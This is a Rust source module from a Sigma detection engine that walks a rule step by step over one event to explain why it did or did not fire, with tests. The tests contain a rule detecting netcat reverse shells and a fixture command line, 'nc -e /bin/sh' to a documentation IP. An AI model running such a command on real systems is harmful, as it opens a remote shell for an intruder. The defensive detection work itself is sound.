//! Why a rule did or did not fire: its own text walked again over one event, step by step, in the order in which it is
//! written. Independent of the plan that made the decision, and slower: for people.

use rsigma_parser::{
    ConditionExpr, Detection, DetectionItem, Detections, FieldSpec, FilterRule, FilterRuleTarget,
    Modifier, Quantifier, SelectorPattern, SigmaRule,
};
use serde::Serialize;

use crate::detect::rule::compile::fits;
use crate::detect::rule::filter::{covers, is_of};
use crate::detect::rule::layout::Layout;
use crate::detect::rule::matcher::Expr;
use crate::detect::rule::placeholder::{self, Placeholders};
use crate::detect::rule::read::{self, Body};
use crate::detect::rule::{Rule, RuleIndex, RuleText, Ruleset, digest_of, value};
use crate::event::Event;
use crate::event::field::{FieldSet, Fields};

/// Values of a field that are shown, and how much of each.
const SEEN_MAX: usize = 8;
const SEEN_BYTES_MAX: usize = 256;
/// Values of a line that are shown one by one where none of them is met.
const VALUES_SHOWN: usize = 12;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    True,
    False,
    /// The steps before it had decided.
    NotReached,
}

/// Why a step failed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Miss {
    LogSource,
    FieldAbsent,
    Value,
    /// What a `not` excludes is there.
    Excluded,
    /// A site's filter.
    Filter,
}

/// One step of a rule, over one event.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    /// As the rule says it.
    pub what: String,
    pub verdict: Verdict,
    /// What the event has there.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub seen: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub miss: Option<Miss>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub parts: Vec<Step>,
}

impl Step {
    fn not_reached(what: impl Into<String>) -> Self {
        Self {
            what: what.into(),
            verdict: Verdict::NotReached,
            seen: Vec::new(),
            miss: None,
            parts: Vec::new(),
        }
    }

    fn of(what: impl Into<String>, holds: bool, parts: Vec<Self>) -> Self {
        Self {
            verdict: if holds { Verdict::True } else { Verdict::False },
            parts,
            ..Self::not_reached(what)
        }
    }

    pub fn holds(&self) -> bool {
        self.verdict == Verdict::True
    }

    /// Returns the first step that failed, down to where it can be said no closer.
    pub fn first_miss(&self) -> Option<&Self> {
        if self.verdict != Verdict::False {
            return None;
        }
        if self.miss.is_some() {
            return Some(self);
        }
        let within = self.parts.iter().find_map(Self::first_miss);
        within.or(Some(self))
    }
}

/// A rule taken apart, with the filters that are joined to it.
#[derive(Debug)]
pub struct Explained {
    rule: Box<SigmaRule>,
    filters: Vec<FilterRule>,
    fields: Fields,
}

impl Explained {
    /// Takes a rule of `set` apart again; `texts` are those that the set was made of. `None` for a correlation.
    pub fn of(
        set: &Ruleset,
        index: RuleIndex,
        texts: &[RuleText<'_>],
        placeholders: &Placeholders,
    ) -> Option<Self> {
        let wanted = set.rule(index);
        let mut found = None;
        let mut filters = Vec::new();
        for text in texts {
            let may_be = text.file == wanted.file || text.text.contains("filter:");
            if !may_be {
                continue;
            }
            for document in read::read(text, &mut Vec::new()) {
                match document.body {
                    Body::Rule(mut rule)
                        if text.file == wanted.file && is_it(&rule, &document.digested, wanted) =>
                    {
                        placeholder::expand(&mut rule.detection, placeholders);
                        found = Some(rule);
                    }
                    Body::Filter(filter) => filters.push(*filter),
                    _ => {}
                }
            }
        }
        filters.retain(|filter| {
            let is_meant = match &filter.rules {
                FilterRuleTarget::Any => true,
                FilterRuleTarget::Specific(names) => names.iter().any(|name| is_of(wanted, name)),
            };
            is_meant && covers(filter, wanted)
        });
        Some(Self {
            rule: found?,
            filters,
            fields: set.fields().clone(),
        })
    }

    /// Returns the rule's steps over an event; all must be true.
    pub fn steps(&mut self, event: &Event<'_>) -> Vec<Step> {
        let mut asked = FieldSet::default();
        for (id, _) in event.iter() {
            asked.insert(id);
        }
        let mut layout = Layout::default();
        layout.load(event, &asked);
        let mut walk = Walk {
            event,
            layout,
            fields: &mut self.fields,
        };
        let mut steps = vec![log_source(&self.rule, event)];
        let is_reached = steps.iter().all(Step::holds);
        steps.push(walk.conditions("condition", &self.rule.detection, is_reached));
        for filter in &self.filters {
            let is_reached = steps.iter().all(Step::holds);
            let what = format!("filter `{}`", filter.title);
            let mut step = walk.conditions(&what, &filter.detection, is_reached);
            if step.verdict == Verdict::False {
                step.miss = Some(Miss::Filter);
            }
            steps.push(step);
        }
        steps
    }
}

fn is_it(rule: &SigmaRule, digested: &str, wanted: &Rule) -> bool {
    match &rule.id {
        Some(id) => id.trim() == wanted.id,
        None => digest_of(&[digested.as_bytes()]) == wanted.id,
    }
}

fn log_source(rule: &SigmaRule, event: &Event<'_>) -> Step {
    let source = &rule.logsource;
    let word = |name: &str, word: &Option<String>| {
        word.as_ref()
            .map(|word| format!("{name} {}", word.trim().to_lowercase()))
    };
    let wanted: Vec<String> = [
        word("product", &source.product),
        word("category", &source.category),
        word("service", &source.service),
    ]
    .into_iter()
    .flatten()
    .collect();
    let of = &event.logsources;
    let own = |word: &Option<String>| word.as_ref().map(|word| word.trim().to_lowercase());
    let accepts = crate::event::logsource::LogSource {
        product: own(&source.product),
        category: own(&source.category),
        service: own(&source.service),
    }
    .accepts(of);
    let product = of.product.iter().map(|word| format!("product {word}"));
    let categories = of.categories.iter().map(|word| format!("category {word}"));
    let services = of.services.iter().map(|word| format!("service {word}"));
    Step {
        seen: product.chain(categories).chain(services).collect(),
        miss: (!accepts).then_some(Miss::LogSource),
        ..Step::of(
            format!(
                "log source: {}",
                if wanted.is_empty() {
                    "any".to_owned()
                } else {
                    wanted.join(", ")
                }
            ),
            accepts,
            Vec::new(),
        )
    }
}

struct Walk<'a, 'e> {
    event: &'a Event<'e>,
    layout: Layout,
    fields: &'a mut Fields,
}

impl Walk<'_, '_> {
    /// Several conditions: any of them.
    fn conditions(&mut self, what: &str, detection: &Detections, is_reached: bool) -> Step {
        let texts: Vec<String> = detection
            .conditions
            .iter()
            .map(ToString::to_string)
            .collect();
        let what = format!("{what}: {}", texts.join(" | "));
        if !is_reached {
            return Step::not_reached(what);
        }
        let each = detection.conditions.iter();
        let parts = self.until(true, each, |walk, condition| {
            walk.condition(condition, detection)
        });
        let holds = parts.iter().any(Step::holds);
        Step::of(what, holds, parts)
    }

    /// Walks the parts until one decides: the first that is `decisive`. The rest is not reached.
    fn until<T>(
        &mut self,
        decisive: bool,
        each: impl Iterator<Item = T>,
        mut step: impl FnMut(&mut Self, T) -> Step,
    ) -> Vec<Step> {
        let mut is_decided = false;
        let mut steps = Vec::new();
        for part in each {
            let made = step(self, part);
            if is_decided {
                steps.push(Step::not_reached(made.what));
                continue;
            }
            is_decided = made.holds() == decisive;
            steps.push(made);
        }
        steps
    }

    fn condition(&mut self, condition: &ConditionExpr, detection: &Detections) -> Step {
        match condition {
            ConditionExpr::And(each) => {
                let parts = self.until(false, each.iter(), |walk, part| {
                    walk.condition(part, detection)
                });
                let holds = parts.iter().all(Step::holds);
                Step::of("all of", holds, parts)
            }
            ConditionExpr::Or(each) => {
                let parts = self.until(true, each.iter(), |walk, part| {
                    walk.condition(part, detection)
                });
                let holds = parts.iter().any(Step::holds);
                Step::of("any of", holds, parts)
            }
            ConditionExpr::Not(part) => {
                let part = self.condition(part, detection);
                let holds = !part.holds();
                Step {
                    miss: (!holds).then_some(Miss::Excluded),
                    ..Step::of("not", holds, vec![part])
                }
            }
            ConditionExpr::Identifier(name) => self.named(name, detection),
            ConditionExpr::Selector {
                quantifier,
                pattern,
            } => self.selected(quantifier, pattern, detection),
        }
    }

    fn named(&mut self, name: &str, detection: &Detections) -> Step {
        match detection.named.get(name) {
            Some(selection) => self.selection(name, name, selection),
            // Refused when the rule was loaded.
            None => Step::of(name, false, Vec::new()),
        }
    }

    fn selected(
        &mut self,
        quantifier: &Quantifier,
        pattern: &SelectorPattern,
        detection: &Detections,
    ) -> Step {
        let mut names: Vec<&String> = detection
            .named
            .keys()
            .filter(|name| match pattern {
                SelectorPattern::Them => !name.starts_with('_'),
                SelectorPattern::Pattern(pattern) => fits(pattern, name),
            })
            .collect();
        names.sort_unstable();
        let what = format!("{quantifier} of {pattern}");
        let wanted = match quantifier {
            Quantifier::Any => 1,
            Quantifier::All => names.len(),
            Quantifier::Count(wanted) => usize::try_from(*wanted).unwrap_or(usize::MAX),
        };
        let is_all = matches!(quantifier, Quantifier::All);
        let parts: Vec<Step> = if wanted == 1 || is_all {
            self.until(!is_all, names.into_iter(), |walk, name| {
                walk.named(name, detection)
            })
        } else {
            let each = names.into_iter();
            each.map(|name| self.named(name, detection)).collect()
        };
        let holding = parts.iter().filter(|part| part.holds()).count();
        Step::of(what, holding >= wanted, parts)
    }

    fn selection(&mut self, what: &str, name: &str, selection: &Detection) -> Step {
        match selection {
            Detection::AllOf(items) => {
                let parts = self.until(false, items.iter(), |walk, item| walk.item(item, name));
                let holds = parts.iter().all(Step::holds);
                Step::of(what, holds, parts)
            }
            Detection::AnyOf(each) => {
                let parts = self.until(true, each.iter(), |walk, part| {
                    walk.selection("one of", name, part)
                });
                let holds = parts.iter().any(Step::holds);
                Step::of(what, holds, parts)
            }
            Detection::And(each) => {
                let parts = self.until(false, each.iter(), |walk, part| {
                    walk.selection("all of", name, part)
                });
                let holds = parts.iter().all(Step::holds);
                Step::of(what, holds, parts)
            }
            Detection::Keywords(values) => {
                let item = DetectionItem {
                    field: FieldSpec::new(None, Vec::new()),
                    values: values.clone(),
                };
                let part = self.item(&item, name);
                Step::of(what, part.holds(), vec![part])
            }
            // Refused when the rule was loaded.
            Detection::ArrayMatch { .. } | Detection::Conditional { .. } => {
                Step::of(what, false, Vec::new())
            }
        }
    }

    fn item(&mut self, item: &DetectionItem, selection: &str) -> Step {
        let holds = self.test(item, selection);
        let field = item.field.name.as_deref().map(|name| {
            let name = rsigma_parser::fieldpath::unescape_brackets(name);
            self.fields.get(&name)
        });
        let seen: Vec<String> = match field {
            Some(Some(id)) => {
                let values = self.event.all(id).take(SEEN_MAX);
                values.map(|value| shortened(&value.lossy())).collect()
            }
            _ => Vec::new(),
        };
        let miss = match field {
            _ if holds => None,
            Some(_) if seen.is_empty() => Some(Miss::FieldAbsent),
            _ => Some(Miss::Value),
        };
        let values: Vec<Step> = match item.values.len() {
            0 | 1 => Vec::new(),
            _ => self.values(item, selection),
        };
        let what = match item.values.as_slice() {
            [only] => format!("{}: {only}", spelled(&item.field)),
            [] => spelled(&item.field),
            several => format!("{}: {} values", spelled(&item.field), several.len()),
        };
        Step {
            seen,
            miss,
            ..Step::of(what, holds, values)
        }
    }

    /// Returns the values one by one: those that are met, and the first others.
    fn values(&mut self, item: &DetectionItem, selection: &str) -> Vec<Step> {
        let mut steps: Vec<Step> = item
            .values
            .iter()
            .map(|value| {
                let one = DetectionItem {
                    field: item.field.clone(),
                    values: vec![value.clone()],
                };
                Step::of(value.to_string(), self.test(&one, selection), Vec::new())
            })
            .collect();
        // In a list of hundreds the ones that are met say why.
        let is_all = item.field.has_modifier(Modifier::All);
        let mut shown = 0;
        steps.retain(|step| {
            shown += usize::from(step.holds() == is_all);
            step.holds() != is_all || shown <= VALUES_SHOWN
        });
        steps
    }

    fn test(&mut self, item: &DetectionItem, selection: &str) -> bool {
        // What can't be compiled was told when the rule was loaded.
        let expr = value::compile(item, selection, self.fields, &mut Vec::new());
        expr.is_ok_and(|expr: Expr| expr.holds(self.event, &mut self.layout))
    }
}

fn spelled(field: &FieldSpec) -> String {
    let mut text = field.name.clone().unwrap_or_else(|| "keyword".to_owned());
    for modifier in &field.modifiers {
        let name = serde_json::to_value(modifier).unwrap_or_default();
        text.push('|');
        text.push_str(name.as_str().unwrap_or("?"));
    }
    text
}

fn shortened(text: &str) -> String {
    if text.len() <= SEEN_BYTES_MAX {
        return text.to_owned();
    }
    let end = (0..=SEEN_BYTES_MAX)
        .rev()
        .find(|&at| text.is_char_boundary(at));
    format!("{}…", text.get(..end.unwrap_or(0)).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::field;
    use crate::event::logsource::LogSources;

    const RULE: &str = "title: t\nid: r\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection:\n    Image|endswith: ['/nc', '/ncat']\n    CommandLine|contains|all: [' -e ', 'sh']\n  known:\n    User: backup\n  condition: selection and not known\n";
    const FILTER: &str = "title: site\nid: f\nlogsource: {product: linux}\nfilter:\n  rules: [r]\n  own: {CurrentDirectory: /opt/tests}\n  condition: not own\n";

    fn steps(
        set: &[(&str, &str)],
        category: &'static str,
        values: &[(field::FieldId, &'static str)],
    ) -> (bool, Vec<Step>) {
        let texts: Vec<_> = set
            .iter()
            .map(|&(file, text)| RuleText { file, text })
            .collect();
        let (set, told) = Ruleset::compile(&texts);
        assert_eq!(told, []);
        let index = set.by_id("r").unwrap();
        let mut event = Event::new(b"raw");
        event.logsources = LogSources::of(Some("linux"), &[category], &[]);
        for &(id, value) in values {
            event.set(id, value);
        }
        let mut fired = false;
        set.matches(
            &event,
            &mut crate::detect::rule::Scratch::default(),
            |_, _| fired = true,
        );
        let mut explained = Explained::of(&set, index, &texts, &Placeholders::new()).unwrap();
        (fired, explained.steps(&event))
    }

    #[test]
    fn the_first_step_that_failed_is_named() {
        let nc = (field::IMAGE, "/usr/bin/nc");
        let line = (field::COMMAND_LINE, "nc -e /bin/sh 192.0.2.7");
        for (category, values, miss, what) in [
            ("process_creation", &[nc, line][..], None, ""),
            (
                "file_event",
                &[nc, line],
                Some(Miss::LogSource),
                "log source: product linux, category process_creation",
            ),
            (
                "process_creation",
                &[nc],
                Some(Miss::FieldAbsent),
                "CommandLine|contains|all: 2 values",
            ),
            (
                "process_creation",
                &[(field::IMAGE, "/bin/ls"), line],
                Some(Miss::Value),
                "Image|endswith: 2 values",
            ),
            (
                "process_creation",
                &[nc, line, (field::USER, "backup")],
                Some(Miss::Excluded),
                "not",
            ),
            (
                "process_creation",
                &[nc, line, (field::CURRENT_DIRECTORY, "/opt/tests")],
                Some(Miss::Filter),
                "filter `site`: not own",
            ),
        ] {
            let (fired, steps) = steps(&[("a.yml", RULE), ("f.yml", FILTER)], category, values);
            let first = steps.iter().find_map(Step::first_miss);
            assert_eq!(first.and_then(|step| step.miss), miss, "{steps:#?}");
            assert_eq!(first.map_or("", |step| step.what.as_str()), what);
            assert_eq!(fired, first.is_none());
        }
    }

    #[test]
    fn steps_show_what_was_seen_and_what_was_not_reached() {
        let (_, steps) = steps(
            &[("a.yml", RULE)],
            "process_creation",
            &[
                (field::IMAGE, "/usr/bin/ncat"),
                (field::COMMAND_LINE, "ncat -l"),
            ],
        );
        let condition = &steps[1].parts[0];
        let (selection, not) = (&condition.parts[0], &condition.parts[1]);
        assert_eq!(not.verdict, Verdict::NotReached);
        let (image, line) = (&selection.parts[0], &selection.parts[1]);
        assert_eq!(
            (image.verdict, image.seen.as_slice()),
            (Verdict::True, &["/usr/bin/ncat".to_owned()][..])
        );
        let met: Vec<_> = image
            .parts
            .iter()
            .filter(|value| value.holds())
            .map(|value| value.what.as_str())
            .collect();
        assert_eq!(met, ["/ncat"]);
        assert_eq!(
            (line.verdict, line.miss),
            (Verdict::False, Some(Miss::Value))
        );
    }
}
